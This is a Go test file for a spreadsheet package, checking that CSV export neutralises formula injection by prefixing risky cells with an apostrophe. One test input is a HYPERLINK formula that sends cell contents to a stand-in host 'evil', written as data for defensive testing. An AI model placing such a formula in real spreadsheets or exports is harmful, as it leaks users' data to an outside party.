package spreadsheet

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestTextNeutralisesFormulas(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil/?"&A1,"点击")`: `'=HYPERLINK("http://evil/?"&A1,"点击")`,
		"+86 138":      "'+86 138",
		"-2+3":         "'-2+3",
		"@SUM(A1:A9)":  "'@SUM(A1:A9)",
		"\t=1":         "'\t=1",
		"\r=1":         "'\r=1",
		"-12.5":        "-12.5",
		"+3":           "+3",
		"张三":           "张三",
		"330110 = 余杭区": "330110 = 余杭区",
		"":             "",
	} {
		if got := Text(in); got != want {
			t.Errorf("Text(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriterNeutralisesEveryField(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	w.Write([]string{"=1+1", "ok", "-5"})
	w.Flush()
	rec, err := csv.NewReader(&buf).Read()
	if err != nil {
		t.Fatal(err)
	}
	if rec[0] != "'=1+1" || rec[1] != "ok" || rec[2] != "-5" {
		t.Errorf("%q", rec)
	}
}
